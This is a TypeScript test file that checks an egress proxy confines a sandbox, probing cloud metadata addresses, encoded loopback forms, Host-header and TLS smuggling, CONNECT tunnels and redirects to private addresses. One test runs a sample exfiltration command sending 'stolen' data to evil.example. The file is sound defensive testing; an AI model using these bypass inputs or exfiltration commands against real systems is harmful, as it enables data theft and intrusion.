import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { networkInterfaces } from "node:os";
import { afterAll, beforeAll, expect, onTestFinished, test } from "vitest";
import type { Sandbox } from "../../src/sandbox/sandbox.ts";
import { egressWorld } from "../support/egress-world.ts";
import { sampleRepository, type SampleRepository } from "../support/sample-repository.ts";
import { dockerSandboxes, sandboxSpec, startSandbox } from "../support/start-sandbox.ts";

let sample: SampleRepository;
let sandbox: Sandbox;
let host: Server;
const visitors: string[] = [];

/** A server on every address of this machine: what gets out of a sandbox without the proxy ends here. */
beforeAll(async () => {
  host = createServer((request, response) => {
    visitors.push(request.url ?? "");
    response.end("you are out");
  });
  await new Promise<void>((resolve) => host.listen(0, "0.0.0.0", resolve));
  sample = sampleRepository();
  sandbox = await startSandbox(sample);
});
afterAll(async () => {
  host?.close();
  await sandbox?.[Symbol.asyncDispose]();
  sample?.[Symbol.dispose]();
});

/** What curl is told: the status of the proxy's answer to CONNECT, that of the request, or curl's own error. */
async function curl(url: string, more = ""): Promise<string> {
  const format = "%{http_connect} %{http_code} %{exitcode}";
  const { preview } = await sandbox.exec(`curl -s -m 5 -o /dev/null -w '${format}' ${more} '${url}'`);
  return preview;
}

test.each([
  ["an evil host", "https://evil.example/", "403 000"],
  ["an evil host by plain HTTP", "http://evil.example/", "000 403"],
  ["an address", "https://1.1.1.1/", "403 000"],
  ["an address by plain HTTP", "http://1.1.1.1/", "000 403"],
  ["a cloud's metadata", "http://169.254.169.254/latest/meta-data/", "000 403"],
  ["a cloud's metadata by name", "http://metadata.google.internal/", "000 403"],
  ["an IPv6 address", "https://[2606:4700::1111]/", "403 000"],
  ["this machine by IPv6", "http://[::ffff:127.0.0.1]/", "000 403"],
  ["a number that is an address", "http://2130706433/", "000 403"],
  ["a hexadecimal address", "http://0x7f000001/", "000 403"],
  ["a short address", "http://127.1/", "000 403"],
  ["another port of an allowed host", "https://registry.npmjs.org:9999/", "403 000"],
  ["SSH on an allowed host", "https://registry.npmjs.org:22/", "403 000"],
  ["an allowed name as another's beginning", "https://registry.npmjs.org.evil.example/", "403 000"],
  ["an allowed name as a user of another", "https://registry.npmjs.org@evil.example/", "403 000"],
  ["GitHub", "https://github.com/", "403 000"],
  ["GitHub's API", "https://api.github.com/", "403 000"],
])("%s cannot be reached from a sandbox: %s", async (_what, url, statuses) => {
  // NO_PROXY names this machine, which here is the sandbox itself.
  expect(await curl(url, "--noproxy x")).toMatch(new RegExp(`^${statuses} `));
});

test("without the proxy there is no way at all, to any address of this machine either", async () => {
  const { port } = host.address() as AddressInfo;
  const addresses = Object.values(networkInterfaces()).flatMap((one) => one ?? []);
  const own = addresses.filter(({ family }) => family === "IPv4").map(({ address }) => address);
  for (const address of [...own, "172.17.0.1", "host.docker.internal", "1.1.1.1", "registry.npmjs.org"]) {
    // 6: no such name. 7: no connection.
    expect(await curl(`http://${address}:${port}/`, "--noproxy '*'"), address).toMatch(/^000 000 [67]$/);
  }
  expect(visitors).toEqual([]);
});

test("another host behind an allowed name is refused: in the Host header, in TLS, and as a second tunnel", async () => {
  expect(await curl("https://registry.npmjs.org/", "-H 'Host: evil.example'")).toBe("200 421 0");
  expect(await curl("http://registry.npmjs.org/", "-H 'Host: evil.example'")).toBe("000 421 0");
  // 35: no TLS.
  expect(await curl("https://evil.example/", "--connect-to evil.example:443:registry.npmjs.org:443")).toBe(
    "200 000 35",
  );
  const { preview } = await sandbox.exec(
    String.raw`printf 'CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n' |
      openssl s_client -quiet -proxy 127.0.0.1:3128 -connect registry.npmjs.org:443 -servername registry.npmjs.org 2>/dev/null | head -1`,
  );
  expect(preview).toMatch(/^HTTP\/1.1 403 /);
});

test("each of these is in the sandbox's log with its rule, and none was let through", () => {
  const requests = sandbox.requests();
  expect(requests.every(({ refusedBy }) => refusedBy !== null)).toBe(true);
  expect(new Set(requests.map(({ refusedBy }) => refusedBy))).toEqual(
    new Set(["host", "port", "other_host"]),
  );
});

test("the operator's registries and the repository's hosts are all that is open, and a repository's own are asked as it says", async () => {
  await using other = await dockerSandboxes(sample, { registries: ["npm.invalid"] }).start(
    sandboxSpec(sample, { allow: [{ host: "api.invalid", methods: ["POST"] }] }),
  );
  const ask = async (command: string) =>
    (await other.exec(`curl -s -m 9 -o /dev/null -w '%{http_connect} %{http_code}' ${command}`)).preview;
  expect(await ask("https://registry.npmjs.org/")).toBe("403 000");
  // Names ending in `invalid` exist nowhere: 502 is the way out's answer for a name that it did look up.
  expect(await ask("https://npm.invalid/")).toBe("200 502");
  expect(await ask("-d x https://npm.invalid/")).toBe("200 403");
  expect(await ask("https://api.invalid/")).toBe("200 403");
  expect(await ask("-d x https://api.invalid/")).toBe("200 502");
});

test("a refusal says what was refused and what a person can do, and does not repeat the payload", async () => {
  const { preview } = await sandbox.exec(
    "curl -s 'http://evil.example/?stolen=c2VjcmV0'; curl -sv https://evil.example 2>&1 | grep '^< HTTP'",
  );
  expect(preview).toContain("may not reach evil.example:80. A maintainer can allow a host name");
  expect(preview).toContain("`network:` in .github/handback.yml");
  expect(preview).not.toContain("c2VjcmV0");
  expect(preview).toContain("HTTP/1.1 403 Forbidden");
});

test("a redirect to a forbidden place is refused when the client follows it", async () => {
  const world = await egressWorld({}, (_request, response) => {
    response.writeHead(302, { location: "http://169.254.169.254/latest/" });
    response.end();
  });
  onTestFinished(() => world[Symbol.asyncDispose]());
  const first = await world.ask(`https://registry.example${world.tls}/package`);
  expect(first.status).toBe(302);
  expect(await world.ask(first.headers.location!)).toMatchObject({ status: 403 });
  expect(world.seen).toHaveLength(1);
});

test("a name that the settings allow and that leads inside is refused, for every kind of inside", async () => {
  for (const address of ["127.0.0.1", "10.0.0.5", "192.168.1.1", "169.254.169.254", "100.64.0.1"]) {
    await using world = await egressWorld({
      allowPrivateAddressesFor: [],
      resolve: async () => [{ address, family: 4 }],
    });
    const answer = await world.ask(`http://docs.example${world.plain}/`);
    expect(answer, address).toMatchObject({ status: 403, body: expect.stringContaining("private address") });
    expect(world.seen).toEqual([]);
  }
});
